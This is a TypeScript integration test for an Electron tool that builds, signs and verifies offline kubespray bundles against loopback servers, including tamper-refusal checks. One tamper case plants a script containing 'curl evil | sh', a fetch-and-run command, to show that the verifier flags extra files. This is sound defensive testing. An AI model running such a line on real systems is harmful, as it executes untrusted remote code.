import { execFile, spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { createWriteStream } from 'node:fs';
import { pipeline } from 'node:stream/promises';
import { appendFile, cp, mkdir, mkdtemp, readFile, readdir, rm, truncate, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BundleManifestSchema, type BundleManifest } from '../../../../electron/common/bundle-manifest';
import { openBundleFile } from '../../../../electron/node/bundles/bundle-parts';
import { generateSigningKey } from '../../../../electron/node/bundles/bundle-signing';
import { buildBundle, type BuildProgress } from '../../../../electron/node/bundles/build/build-bundle';
import {
  bundlePathForUrl,
  parseFilesList,
  parseImagesList,
} from '../../../../electron/node/bundles/build/kubespray-lists';
import { verifyBundle } from '../../../../electron/node/bundles/verify-bundle';
import { writeSignedManifest } from '../../../../electron/node/bundles/write-manifest';
import { trustedTestKey } from '../../../support/bundle-fixtures';
import {
  freePort,
  pushTestImage,
  startDockerRegistry,
  startTestFileServer,
  type RunningRegistry,
  type TestFileServer,
} from '../../../support/bundle-lab';
import { kubesprayListsFixtures as fixtures } from '../../../support/kubespray-release-path';

const run = promisify(execFile);
const { publisher, trusted } = trustedTestKey('Build test');

let work: string;
let sourceRegistry: RunningRegistry;
let fileServer: TestFileServer;
let bundleDir: string;
let manifest: BundleManifest;
const fileContents = new Map<string, Buffer>();
const buildEvents: BuildProgress[] = [];
let pushedIndexDigest: string;

// Real entries from kubespray's own lists; the bytes behind them are made here and served on loopback.
const chosenFiles = ['/kubeadm', '/kubectl', 'cni-plugins-linux-amd64', 'calicoctl-linux-amd64'];
const chosenImages = [
  'quay.io/calico/node:v3.25.2',
  'quay.io/coreos/etcd:v3.5.10',
  'docker.io/flannel/flannel:v0.22.0',
];

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'airspray-build-'));
  const allFiles = parseFilesList(await readFile(join(fixtures, 'files.list'), 'utf8'));
  const allImages = parseImagesList(await readFile(join(fixtures, 'images.list'), 'utf8'));
  const files = allFiles.filter((url) => chosenFiles.some((part) => url.pathname.includes(part)));
  const images = allImages.filter((image) => chosenImages.includes(image.reference));
  expect(files).toHaveLength(4);
  expect(images).toHaveLength(3);

  // The "internet": one file server for every download host, one registry for every image host.
  const webRoot = join(work, 'web');
  for (const url of files) {
    const content = randomBytes(200_000 + Math.floor(Math.random() * 50_000));
    fileContents.set(url.href, content);
    const path = join(webRoot, url.host, url.pathname);
    await mkdir(join(path, '..'), { recursive: true });
    await writeFile(path, content);
  }
  fileServer = await startTestFileServer(webRoot, new Set([`/${files[0]!.host}${files[0]!.pathname}`]));
  sourceRegistry = await startDockerRegistry(join(work, 'source-registry'), {
    readOnly: false,
    configDir: join(work, 'config'),
  });
  pushedIndexDigest = await pushTestImage(sourceRegistry.url, 'calico/node', 'v3.25.2', ['amd64', 'arm64']);
  await pushTestImage(sourceRegistry.url, 'coreos/etcd', 'v3.5.10', ['amd64'], 'docker');
  await pushTestImage(sourceRegistry.url, 'flannel/flannel', 'v0.22.0', ['amd64']);

  const kubesprayDir = join(work, 'kubespray-release');
  await mkdir(join(kubesprayDir, 'inventory', 'sample'), { recursive: true });
  await writeFile(join(kubesprayDir, 'cluster.yml'), '- import_playbook: playbooks/cluster.yml\n');
  await writeFile(
    join(kubesprayDir, 'inventory', 'sample', 'inventory.ini'),
    '[kube_control_plane]\nnode1 ansible_host=10.0.0.11\n',
  );

  bundleDir = join(work, 'bundle');
  const options = {
    outDir: bundleDir,
    bundleId: 'ks-2.23.3-k8s-1.27.10-amd64',
    kubespray: { version: '2.23.3' },
    kubernetesVersions: ['1.27.10'],
    architectures: ['amd64'] as BundleManifest['architectures'],
    operatingSystems: [{ id: 'debian', version: '12' }],
    files,
    images,
    checksums: new Map([...fileContents].map(([url, content]) => [url, createSha(content)])),
    mirrors: new Map([
      ...files.map((url) => [url.host, `${fileServer.url}/${url.host}`] as const),
      ['quay.io', sourceRegistry.url],
      ['docker.io', sourceRegistry.url],
    ]),
    steps: [
      { name: 'kubespray', run: async (dir: string) => cp(kubesprayDir, join(dir, 'kubespray'), { recursive: true }) },
    ],
    privateKeyPem: publisher.privateKeyPem,
    partBytes: 150_000,
  };
  // The first run stops after two downloads (as an interrupted build would); the second resumes.
  const controller = new AbortController();
  let finished = 0;
  await expect(
    buildBundle({
      ...options,
      signal: controller.signal,
      onProgress: (event) => {
        if (event.kind === 'file' && event.state === 'done' && ++finished === 2) controller.abort();
      },
    }),
  ).rejects.toThrow();
  ({ manifest } = await buildBundle({ ...options, onProgress: (event) => buildEvents.push(event) }));
}, 120_000);

afterAll(async () => {
  await sourceRegistry?.stop();
  await fileServer?.close();
});

function createSha(content: Buffer): string {
  return createHash('sha256').update(content).digest('hex');
}

describe('bundle builder against a loopback file server and docker-registry', () => {
  it('resumes an interrupted build and a dropped download, and checks every published checksum', () => {
    const skipped = buildEvents.filter((event) => event.kind === 'file' && event.state === 'skipped');
    expect(skipped).toHaveLength(2);
    expect(fileServer.requests.some((line) => line.startsWith('bytes='))).toBe(true);
    expect(BundleManifestSchema.parse(JSON.parse(JSON.stringify(manifest)))).toEqual(manifest);
  });

  it('lays files out by URL host and path, names their kubespray variables, splits large ones', async () => {
    for (const url of fileContents.keys()) {
      const entry = manifest.files.find((file) => file.url === url)!;
      expect(entry.path).toBe(bundlePathForUrl(new URL(url)));
      expect(entry.parts?.length).toBe(2);
    }
    const variables = manifest.files
      .map((file) => file.kubesprayVariable)
      .filter(Boolean)
      .sort();
    expect(variables).toEqual([
      'calicoctl_download_url',
      'cni_download_url',
      'kubeadm_download_url',
      'kubectl_download_url',
    ]);
    expect(manifest.files.some((file) => file.path === 'kubespray/inventory/sample/inventory.ini')).toBe(true);
    expect(await readdir(bundleDir)).not.toContain('.airspray-build');
    expect(manifest.networkPlugins).toEqual(['calico', 'flannel']);
  });

  it('records every image with its digest and platforms, keeping a multi-platform index as pushed', () => {
    const calico = manifest.images.find((image) => image.repository === 'calico/node')!;
    expect(calico).toMatchObject({
      digest: pushedIndexDigest,
      mediaType: 'application/vnd.oci.image.index.v1+json',
      platforms: ['linux/amd64'],
      tag: 'v3.25.2',
    });
    expect(manifest.images.find((image) => image.repository === 'coreos/etcd')?.mediaType).toBe(
      'application/vnd.docker.distribution.manifest.v2+json',
    );
    expect(manifest.images).toHaveLength(3);
  });

  it('verifies the built bundle in full', async () => {
    const result = await verifyBundle(bundleDir, { mode: 'full', trustedKeys: trusted });
    expect(result.refusals).toEqual([]);
    expect(result.outcome).toBe('verified');
  });

  it.each([
    [
      'a flipped byte in an image layer',
      async (dir: string) => {
        const blob = manifest.files.find((file) => file.path.includes('/blobs/') && file.size > 1000)!;
        const bytes = await readFile(join(dir, blob.path));
        bytes[500] = bytes[500]! ^ 0x01;
        await writeFile(join(dir, blob.path), bytes);
        return { path: blob.path, reason: 'altered' };
      },
    ],
    [
      'a truncated download part',
      async (dir: string) => {
        const part = manifest.files.find((file) => file.parts)!.parts![1]!;
        await truncate(join(dir, part.path), part.size - 1);
        return { path: part.path, reason: 'truncated' };
      },
    ],
    [
      'an added file',
      async (dir: string) => {
        await appendFile(join(dir, 'files', 'planted.sh'), 'curl evil | sh\n');
        return { path: 'files/planted.sh', reason: 'extra' };
      },
    ],
    [
      'a removed tag link',
      async (dir: string) => {
        const link = manifest.files.find((file) => file.path.endsWith('/_manifests/tags/v3.25.2/current/link'))!;
        await rm(join(dir, link.path));
        return { path: link.path, reason: 'missing' };
      },
    ],
    [
      'a re-signature with an unknown key',
      async (dir: string) => {
        await writeSignedManifest(dir, manifest, generateSigningKey().privateKeyPem);
        return { path: 'manifest.json.sig', reason: 'unknown-publisher' };
      },
    ],
  ])('refuses %s, naming the file', async (_name, tamper) => {
    const copy = await mkdtemp(join(work, 'tampered-'));
    await cp(bundleDir, copy, { recursive: true });
    const expected = await tamper(copy);
    const result = await verifyBundle(copy, { mode: 'full', trustedKeys: trusted });
    expect(result.outcome).toBe('refused');
    expect(result.refusals).toEqual([expect.objectContaining(expected)]);
  });

  it('serves images/ with a second, read-only docker-registry that skopeo pulls from, and files/ by their original URL paths', async () => {
    const bundleRegistry = await startDockerRegistry(join(bundleDir, 'images'), {
      readOnly: true,
      configDir: join(work, 'config'),
    });
    await mkdir(join(work, 'pulled'), { recursive: true });
    const python = spawn(
      'python3',
      [
        '-u',
        '-m',
        'http.server',
        String(await freePort()),
        '--bind',
        '127.0.0.1',
        '--directory',
        join(bundleDir, 'files'),
      ],
      { stdio: ['ignore', 'pipe', 'pipe'] },
    );
    try {
      for (const image of manifest.images) {
        const destination = join(work, 'pulled', image.repository.replace('/', '-'));
        await run('skopeo', [
          'copy',
          '--src-tls-verify=false',
          `docker://127.0.0.1:${bundleRegistry.port}/${image.repository}:${image.tag}`,
          `dir:${destination}`,
        ]);
        const pulled = JSON.parse(await readFile(join(destination, 'manifest.json'), 'utf8')) as { layers: unknown[] };
        expect(pulled.layers).toHaveLength(2);
      }
      const calico = manifest.images.find((image) => image.repository === 'calico/node')!;
      const response = await fetch(`${bundleRegistry.url}/v2/calico/node/manifests/v3.25.2`, {
        headers: { accept: calico.mediaType },
      });
      expect(response.headers.get('docker-content-digest')).toBe(calico.digest);
      const layerLink = manifest.files.find((file) =>
        /\/repositories\/calico\/node\/_layers\/sha256\/[0-9a-f]{64}\/link$/.test(file.path),
      )!;
      const digest = `sha256:${layerLink.path.split('/').at(-2)}`;
      const blob = Buffer.from(
        await (await fetch(`${bundleRegistry.url}/v2/calico/node/blobs/${digest}`)).arrayBuffer(),
      );
      expect(`sha256:${createSha(blob)}`).toBe(digest);
      // Read-only: a push is refused, so the bundle stays as signed.
      expect((await fetch(`${bundleRegistry.url}/v2/calico/node/blobs/uploads/`, { method: 'POST' })).status).not.toBe(
        202,
      );

      // A static file server on files/ answers kubespray's own URL path (only files_repo changes).
      const port = await waitForPythonPort(python);
      const [url, content] = [...fileContents].find(([href]) => href.endsWith('/kubeadm'))!;
      const fileUrl = new URL(url);
      const entry = manifest.files.find((file) => file.url === url)!;
      // Parts are joined when the bundle is copied to the deploy node; the server then serves the whole file.
      await pipeline(
        openBundleFile(bundleDir, entry),
        createWriteStream(join(bundleDir, 'files', fileUrl.host, fileUrl.pathname)),
      );
      const served = Buffer.from(
        await (await fetch(`http://127.0.0.1:${port}/${fileUrl.host}${fileUrl.pathname}`)).arrayBuffer(),
      );
      expect(served.equals(content)).toBe(true);
      await rm(join(bundleDir, 'files', fileUrl.host, fileUrl.pathname));
    } finally {
      python.kill('SIGTERM');
      await bundleRegistry.stop();
    }
  });
});

function waitForPythonPort(child: ReturnType<typeof spawn>): Promise<number> {
  return new Promise((resolve, reject) => {
    let output = '';
    const timer = setTimeout(() => reject(new Error(`http.server did not start: ${output}`)), 10_000);
    const onData = (chunk: Buffer) => {
      output += chunk.toString();
      const match = /port (\d+)/.exec(output);
      if (match) {
        clearTimeout(timer);
        resolve(Number(match[1]));
      }
    };
    child.stdout?.on('data', onData);
    child.stderr?.on('data', onData);
  });
}
